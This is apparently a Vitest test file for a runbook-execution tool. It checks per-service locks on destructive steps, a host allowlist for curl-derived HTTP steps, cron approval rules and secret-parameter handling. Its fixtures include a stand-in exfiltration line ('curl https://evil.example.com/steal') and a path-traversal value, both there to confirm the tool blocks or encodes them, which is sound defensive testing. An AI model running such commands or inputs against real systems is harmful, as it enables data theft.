import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { existsSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { loadConfig } from '../config/index.js';
import { configDir } from '../config/test-support.js';
import { parseRunbook } from '../runbooks/index.js';
import { procedureSettingsValidator } from './config-validator.js';
import { createTestDatabase, postgresUp } from '../../test/support/services.js';
import { createMigratedTestDatabase } from '../../test/support/migrated-database.js';
import { harness, responder, seed, type Harness } from './test-support.js';

const pgOk = await postgresUp();

describe.each([
  ['SQLite', false],
  ['PostgreSQL', true],
])('one destructive execution per service at a time (%s store)', (_name, onPostgres) => {
  let h: Harness;
  let db: Awaited<ReturnType<typeof createTestDatabase>> | undefined;
  beforeAll(async () => {
    if (onPostgres && !pgOk) return;
    db = onPostgres ? await createMigratedTestDatabase('opsbook_exec_store') : undefined;
    h = await harness({
      config: { services: [{ id: 'files', shell: { cwd: '.' } }] },
      runbooks: [{ file: 'f.md', text: '# F\n\n## RB-3: Purge\n\n**Resolution:**\n```bash\nrm -rf cache\n```\n' }],
      ...(db ? { storeUrl: db.url } : {}),
    });
  });
  afterAll(async () => {
    await h?.cleanup();
    await db?.drop();
  });

  it.skipIf(onPostgres && !pgOk)('refuses a second execution’s destructive step while the first holds the lease, then lets it run', async () => {
    const a = await h.service.start('f.md#RB-3', responder);
    const b = await h.service.start('f.md#RB-3', { ...responder, name: 'bo' });
    expect(a.plan.steps[0]!.commands[0]).toMatchObject({ effect: 'destructive', confirmation: 'files' });
    expect((await h.service.runStep(a.id, 1, responder, { confirm: 'files' })).status).toBe('ok');
    const blocked = await h.service.runStep(b.id, 1, { ...responder, name: 'bo' }, { confirm: 'files' });
    expect(blocked.status).toBe('refused');
    expect(blocked.reason).toMatch(new RegExp(`locked by execution ${a.id} \\(ana\\)`));
    await h.service.finish(a.id, responder);
    expect((await h.service.runStep(b.id, 1, { ...responder, name: 'bo' }, { confirm: 'files' })).status).toBe('ok');
    expect((await h.service.transcript(b.id)).map((e) => [e.seq, e.status])).toEqual([[1, 'refused'], [2, 'ok']]);
  });
});

describe('HTTP steps from curl blocks', () => {
  let server: http.Server;
  let base: string;
  const seen: { method: string; url: string; auth: string | undefined }[] = [];
  let h: Harness;
  beforeAll(async () => {
    server = http.createServer((req, res) => {
      seen.push({ method: req.method ?? '', url: req.url ?? '', auth: req.headers.authorization });
      res.setHeader('content-type', 'application/json');
      res.end(JSON.stringify({ count: 7, path: req.url }));
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    h = await harness({
      config: { services: [{ id: 'novapulse', base_url: base, aliases: ['api.novapulse.com'], shell: {} }] },
      runbooks: [
        { file: 'nova.md', path: seed('001') },
        { file: 'x.md', text: '# X\n\n## RB-4: Elsewhere\n\n**Diagnosis:**\n```bash\ncurl https://evil.example.com/steal\ncurl -s https://api.novapulse.com/api/v1/queue/stats | jq .count\n```\n' },
      ],
    });
  });
  afterAll(async () => {
    await h?.cleanup();
    await new Promise((r) => server.close(r));
  });

  it('sends the request natively to base_url, values URL-encoded into the path and the token as a header', async () => {
    const { id, plan } = await h.service.start('nova.md#viewing-webhook-logs', responder, { params: { webhookId: '../admin?x=1', TOKEN: 'tok-123' } });
    const step = plan.steps.find((s) => s.commands.some((c) => c.executor === 'http'))!;
    expect(step.commands[0]!.display).toContain(`${base}/api/v1/webhooks/..%2Fadmin%3Fx%3D1/logs`);
    expect(step.commands[0]!.display).toContain('Bearer ********');
    const result = await h.service.runStep(id, step.number, responder);
    expect(result.status).toBe('ok');
    expect(seen.at(-1)).toEqual({ method: 'GET', url: '/api/v1/webhooks/..%2Fadmin%3Fx%3D1/logs', auth: 'Bearer tok-123' });
    expect(result.entries[0]!.stdout).toContain('"count":7');
  });

  it('refuses hosts that are not aliases of the service, and pipes the body into jq', async () => {
    const plan = await h.service.plan('x.md#RB-4');
    const [evil, stats] = plan.steps[0]!.commands;
    expect(evil).toMatchObject({ runnable: false });
    expect(evil!.why).toMatch(/host evil\.example\.com is not an alias of service novapulse/);
    expect(stats).toMatchObject({ runnable: true, executor: 'http' });
    const { id } = await h.service.start('x.md#RB-4', responder);
    const result = await h.service.runStep(id, 1, responder);
    expect(result.status).toBe('partial');
    expect(result.entries.map((e) => e.status)).toEqual(['not_runnable', 'ok']);
    expect(result.entries[1]!.stdout).toBe('7\n');
    expect(seen.some((s) => s.url === '/steal')).toBe(false);
  });
});

describe('procedure settings validation', () => {
  it('refuses a cron on a procedure with unapproved write steps, with its location', async () => {
    const runbook = parseRunbook('# Ops\n\n## RB-7: Nightly\n\n**Diagnosis:**\n```bash\ncat health\n```\n\n**Resolution:**\n```bash\ntouch restarted\n```\n', { file: 'runbooks/ops.md' });
    const yaml = (extra: string): string => ['procedures:', '  runbooks/ops.md#RB-7:', '    cron: "0 3 * * *"', extra, ''].join('\n');
    const bad = await configDir({ 'ops.yaml': yaml('    required: ["Nothing like this"]') });
    const good = await configDir({ 'ops.yaml': yaml('    pre_approved: [2]') });
    try {
      const rejected = await loadConfig(join(bad.dir, 'ops.yaml'), { validators: [procedureSettingsValidator([runbook])], env: {} });
      expect(rejected.ok).toBe(false);
      if (rejected.ok) return;
      const cron = rejected.issues.find((i) => i.code === 'OPSBOOK_E_EXECUTION_CRON')!;
      expect(cron.path).toBe('procedures["runbooks/ops.md#RB-7"].cron');
      expect(cron.line).toBe(3);
      expect(cron.message).toMatch(/step 2 \(touch restarted\) is write and not in pre_approved/);
      expect(rejected.issues.some((i) => i.message.includes('required item "Nothing like this"'))).toBe(true);
      const accepted = await loadConfig(join(good.dir, 'ops.yaml'), { validators: [procedureSettingsValidator([runbook])], env: {} });
      expect(accepted.ok).toBe(true);
    } finally {
      await bad.cleanup();
      await good.cleanup();
    }
  });

  it('reads secret parameters from a file, never from the runbook', async () => {
    const h = await harness({
      config: { services: [{ id: 's', shell: { cwd: '.' } }], procedures: { 'p.md#rb-5': { params: { API_TOKEN: { file: 'token.txt', secret: true } } } } },
      runbooks: [{ file: 'p.md', text: '# P\n\n## RB-5: P\n\n**Diagnosis:**\n```bash\necho "$API_TOKEN" > seen.txt; echo done\n```\n' }],
    });
    try {
      await writeFile(join(h.dir, 'token.txt'), 'file-secret-9\n');
      const plan = await h.service.plan('p.md#RB-5');
      expect(plan.parameters).toEqual([{ name: 'api_token', shown: '********', secret: true, source: 'config', untrusted: false }]);
      expect(existsSync(join(h.dir, 'seen.txt'))).toBe(false);
    } finally {
      await h.cleanup();
    }
  });
});
